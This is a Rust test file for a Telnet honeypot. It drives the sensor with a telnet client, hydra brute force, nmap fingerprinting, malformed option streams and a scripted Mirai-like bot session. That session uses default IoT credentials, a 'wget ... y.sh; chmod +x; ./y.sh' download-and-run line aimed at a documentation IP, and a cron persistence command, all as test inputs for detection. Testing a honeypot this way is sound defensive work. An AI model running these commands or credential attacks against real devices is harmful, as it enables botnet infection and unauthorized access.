//! The Telnet honeypot driven by real clients through the real binary: the
//! `telnet` client through expect, hydra, nmap -sV (Linux telnetd and
//! BusyBox flavours, never a honeypot), a Mirai-like session, and hostile
//! option streams.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::time::{Duration, Instant};

use common::{Sensor, of_kind, read_events};
use serde_json::Value;

const ACCEPT: &str = "[services.telnet]\nfailed_auth_delay_ms = 0\naccept = [{ user = \"root\", password = \"vizxv\" }]\n";

fn telnet_sensor(config: &str) -> Sensor {
    Sensor::start("telnet", config, tempfile::tempdir().unwrap())
}

/// Read until `needle` appears (or 10 s pass); returns everything read.
fn read_until(c: &mut TcpStream, needle: &[u8]) -> Vec<u8> {
    let mut got = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(10);
    c.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let mut buf = [0u8; 4096];
    while Instant::now() < deadline && !got.windows(needle.len()).any(|w| w == needle) {
        match c.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(_) => {}
        }
    }
    got
}

/// The first bytes: Linux telnetd's four DOs, nothing else until answered;
/// BusyBox's DO ECHO, DO NAWS, WILL ECHO, WILL SGA then `login:`. Never a
/// bare DO NAWS (nmap's Cowrie signature).
#[test]
fn first_bytes_match_the_imitated_daemon() {
    let s = telnet_sensor(ACCEPT);
    let mut c = TcpStream::connect(s.addr).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    let mut buf = [0u8; 64];
    let n = c.read(&mut buf).unwrap();
    assert_eq!(
        &buf[..n],
        b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"
    );
    // Silence until the client answers.
    c.set_read_timeout(Some(Duration::from_millis(1500)))
        .unwrap();
    assert!(c.read(&mut buf).is_err());
    let b = telnet_sensor("[services.telnet]\nflavor = \"busybox\"\nhostname = \"router\"\n");
    let mut c = TcpStream::connect(b.addr).unwrap();
    let got = read_until(&mut c, b"login: ");
    assert_eq!(
        got,
        b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03router login: "
    );
}

/// A raw bot session (no option answers, CR LF lines): wrong then right
/// password, a Mirai-like command chain with the right outputs and tags.
#[test]
fn mirai_like_session_over_raw_tcp() {
    let s = telnet_sensor(ACCEPT);
    let mut c = TcpStream::connect(s.addr).unwrap();
    // Answer nothing: send the user name at once, like Mirai's scanner.
    c.write_all(b"root\r\n").unwrap();
    let got = read_until(&mut c, b"Password: ");
    assert!(
        got.ends_with(b"srv01 login: root\r\nPassword: "),
        "{}",
        String::from_utf8_lossy(&got)
    );
    c.write_all(b"xc3511\r\n").unwrap();
    let got = read_until(&mut c, b"login: ");
    assert!(String::from_utf8_lossy(&got).contains("Login incorrect\r\nsrv01 login: "));
    c.write_all(b"root\r\n").unwrap();
    read_until(&mut c, b"Password: ");
    c.write_all(b"vizxv\r\n").unwrap();
    let got = read_until(&mut c, b"root@srv01:~# ");
    assert!(
        String::from_utf8_lossy(&got)
            .contains("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY")
    );
    c.write_all(b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n")
        .unwrap();
    let got = read_until(&mut c, b"MIRAI: applet not found\r\n");
    let text = String::from_utf8_lossy(&got);
    assert!(
        text.contains("-bash: enable: command not found\r\n"),
        "{text}"
    );
    c.write_all(b"cat /proc/cpuinfo | grep -c processor\r\n")
        .unwrap();
    let got = read_until(&mut c, b"2\r\n");
    assert!(String::from_utf8_lossy(&got).contains("2\r\n"));
    c.write_all(b"cd /tmp; wget http://198.51.100.7/y.sh; chmod +x y.sh; ./y.sh\r\n")
        .unwrap();
    let got = read_until(&mut c, b"root@srv01:/tmp# ");
    let text = String::from_utf8_lossy(&got);
    assert!(
        text.contains("Connecting to 198.51.100.7:80... failed: Connection refused."),
        "{text}"
    );
    assert!(
        text.contains("-bash: ./y.sh: No such file or directory"),
        "{text}"
    );
    c.write_all(b"echo '* * * * * /tmp/y.sh' > /etc/cron.d/y\r\nexit\r\n")
        .unwrap();
    read_until(&mut c, b"logout");
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        common::techniques(e).contains(&"shell.persistence".to_string())
    });
    let auth = of_kind(&ev, "auth.attempt");
    assert_eq!(auth.len(), 2);
    assert_eq!(auth[0]["password"], "xc3511");
    assert_eq!(auth[0]["result"], "failure");
    assert_eq!(auth[1]["result"], "success");
    assert_eq!(auth[1]["src_ip"], "127.0.0.1");
    let t = common::techniques(&ev);
    for want in ["shell.busybox_probe", "shell.download", "shell.persistence"] {
        assert!(t.contains(&want.to_string()), "{want} not in {t:?}");
    }
    let payloads = of_kind(&ev, "payload");
    assert!(
        payloads[0]["stored"]
            .as_str()
            .unwrap()
            .starts_with("quarantine/")
    );
    let rec = auth[1]["details"]["recording"].as_str().unwrap();
    let cast = std::fs::read_to_string(s.event_dir().join(rec)).unwrap();
    assert!(cast.contains("applet not found"));
}

/// The real telnet client (through expect) logs in and runs a command.
#[test]
fn telnet_client_interactive() {
    let expect = mirage_testkit::require_tool("expect");
    mirage_testkit::require_tool("telnet");
    let s = telnet_sensor(ACCEPT);
    let script = format!(
        r#"set timeout 15
spawn telnet 127.0.0.1 {port}
expect "srv01 login: " {{}} timeout {{ exit 2 }}
send "root\r"
expect "Password: " {{}} timeout {{ exit 3 }}
send "vizxv\r"
expect "root@srv01:~# " {{}} timeout {{ exit 4 }}
send "uname -snr\r"
expect "Linux srv01 6.1.0-28-amd64" {{}} timeout {{ exit 5 }}
send "exit\r"
expect eof
exit 0
"#,
        port = s.port()
    );
    let out = Command::new(expect)
        .arg("-c")
        .arg(&script)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "expect exit {:?}:\n{text}",
        out.status.code()
    );
    let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
        !of_kind(e, "command").is_empty()
    });
    let auth = of_kind(&ev, "auth.attempt");
    assert_eq!(auth[0]["result"], "success");
    assert!(
        auth[0]["details"]["terminal_type"].as_str().is_some(),
        "{:?}",
        auth[0]
    );
    assert_eq!(of_kind(&ev, "command")[0]["raw"], "uname -snr");
}

/// hydra (4 tasks, 30 passwords) against both flavours: every password is
/// an `auth.attempt` for `root` from 127.0.0.1, every connection hydra
/// made carried exactly one recorded attempt, and nothing else arrived.
///
/// The emulator hangs up after one wrong password here (`max_auth_tries =
/// 1`): hydra 9.4's telnet module cannot make a second attempt on one
/// connection against any telnetd that prompts `login:` again, the real
/// one included (checked against Debian 12's inetutils telnetd and login:
/// after a failure it sends an empty user name and a fragment of its
/// buffer as password, and only the first attempt of each connection
/// arrives intact). With the default three tries the emulator records
/// those mangled attempts as sent, as the real login(1) would see them.
///
/// hydra itself now and then (about one run in twenty) loses a pair when a
/// child dies reconnecting: it never connects for it, so there is nothing
/// to record. Then the missing passwords are tried again in a second run,
/// as an attacker would.
#[test]
fn hydra_30_passwords_all_recorded() {
    for flavor in ["linux", "busybox"] {
        let s = telnet_sensor(&format!(
            "[services.telnet]\nflavor = \"{flavor}\"\nfailed_auth_delay_ms = 0\nmax_auth_tries = 1\n"
        ));
        let pws: Vec<String> = (0..30).map(|i| format!("pass{i:02}")).collect();
        let recorded = |ev: &[Value]| -> std::collections::BTreeSet<String> {
            of_kind(ev, "auth.attempt")
                .iter()
                .filter_map(|a| a["password"].as_str().map(str::to_owned))
                .collect()
        };
        let mut todo = pws.clone();
        let mut runs = Vec::new();
        for _ in 0..2 {
            let text = run_hydra(&s, &todo);
            assert!(text.contains("0 valid password"), "{flavor}: {text}");
            runs.push(text);
            // hydra is done: wait until its last attempts are written.
            let ev = common::wait_events(&s, Duration::from_secs(10), |e| {
                let got = recorded(e);
                todo.iter().all(|p| got.contains(p))
            });
            let got = recorded(&ev);
            todo.retain(|p| !got.contains(p));
            if todo.is_empty() {
                break;
            }
        }
        assert!(
            todo.is_empty(),
            "{flavor}: {todo:?} never arrived: {runs:?}"
        );
        let ev = read_events(&s.event_dir());
        let auth = of_kind(&ev, "auth.attempt");
        for a in &auth {
            assert_eq!(a["src_ip"], "127.0.0.1", "{flavor}: {a}");
            assert_eq!(a["username"], "root", "{flavor}: {a}");
            assert_eq!(a["details"]["flavor"], flavor);
            assert!(pws.iter().any(|p| a["password"] == p.as_str()), "{a}");
        }
        let connects = of_kind(&ev, "session.connect").len();
        assert_eq!(
            auth.len(),
            connects,
            "{flavor}: a connection without its attempt"
        );
    }
}

/// Run hydra -l root with `passwords` (4 tasks) against the sensor;
/// returns hydra's output.
fn run_hydra(s: &Sensor, passwords: &[String]) -> String {
    let hydra = mirage_testkit::require_tool("hydra");
    let list = s.dir.path().join("pw.txt");
    std::fs::write(&list, passwords.join("\n") + "\n").unwrap();
    let out = Command::new(hydra)
        .args(["-l", "root", "-P"])
        .arg(&list)
        .args([
            "-t",
            "4",
            "-I",
            "-s",
            &s.port().to_string(),
            "127.0.0.1",
            "telnet",
        ])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// nmap -sV names Linux telnetd / BusyBox telnetd, never a honeypot.
#[test]
fn nmap_names_a_plausible_telnetd() {
    let s = telnet_sensor(ACCEPT);
    let text = common::nmap_sv(None, s.port(), &[]);
    assert!(text.contains("Linux telnetd"), "{text}");
    assert!(
        !text.to_lowercase().contains("honeypot") && !text.contains("Cowrie"),
        "{text}"
    );
    let b = telnet_sensor("[services.telnet]\nflavor = \"busybox\"\n");
    let text = common::nmap_sv(None, b.port(), &[]);
    assert!(text.contains("BusyBox telnetd"), "{text}");
    assert!(!text.to_lowercase().contains("honeypot"), "{text}");
}

/// Option floods, unterminated subnegotiations and binary junk end nothing
/// but that connection; the sensor keeps answering.
#[test]
fn hostile_option_streams() {
    let s = telnet_sensor(ACCEPT);
    let mut junk = Vec::new();
    for i in 0..5000u32 {
        junk.extend_from_slice(&[255, 251 + (i % 4) as u8, (i % 256) as u8]);
    }
    junk.extend_from_slice(&[255, 250, 24]);
    junk.extend(std::iter::repeat_n(b'A', 100_000));
    let mut c = TcpStream::connect(s.addr).unwrap();
    let _ = c.write_all(&junk);
    let mut d = TcpStream::connect(s.addr).unwrap();
    let _ = d.write_all(&[255, 255, 255, 0, 13, 0, 10, 255, 240, 255, 244]);
    let mut ok = TcpStream::connect(s.addr).unwrap();
    ok.write_all(b"root\r\n").unwrap();
    let got = read_until(&mut ok, b"Password: ");
    assert!(got.ends_with(b"Password: "));
}
